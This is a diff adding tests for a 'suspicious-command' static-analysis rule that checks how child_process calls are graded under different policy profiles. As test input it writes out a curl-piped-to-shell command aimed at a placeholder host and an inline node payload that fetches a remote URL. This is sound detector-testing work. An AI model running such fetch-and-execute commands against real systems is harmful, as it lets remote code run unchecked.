@@ -1,5 +1,28 @@
 import rule from '../../rules/suspicious-command.js';
 import { ruleTester } from '../rule-tester.js';
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { analyze } from '../../analyzer/engine.js';
+import { resolvePolicy } from '../../policy/index.js';
+
+function severities(code: string, profile: 'strict' | 'audit' | 'recommended'): string[] {
+  const report = analyze(code, { filename: 'x.js', policy: resolvePolicy({ profile }), rules: [rule] });
+  return report.findings.filter((f) => f.ruleId === rule.id).map((f) => f.severity);
+}
+
+describe('suspicious-command severities', () => {
+  it('is an error in every profile', () => {
+    const code = 'require("child_process").exec("curl -s http://x.example/i | sh");';
+    for (const profile of ['strict', 'audit', 'recommended'] as const) assert.deepEqual(severities(code, profile), ['error']);
+  });
+  it('keeps constant, harmless inline node code at warn outside strict', () => {
+    const harmless = 'require("child_process").spawn(process.execPath, ["-e", "const app = require(\'..\'); app.start()"]);';
+    assert.deepEqual(severities(harmless, 'audit'), ['warn']);
+    assert.deepEqual(severities(harmless, 'strict'), ['error']);
+    const payload = 'require("child_process").spawn(process.execPath, ["-e", "require(\'https\').get(u, r => r.pipe(process.stdout))"]);';
+    assert.deepEqual(severities(payload, 'audit'), ['error']);
+  });
+});
 
 const CP = 'const cp = require("child_process");\n';
 const PS_PAYLOAD =
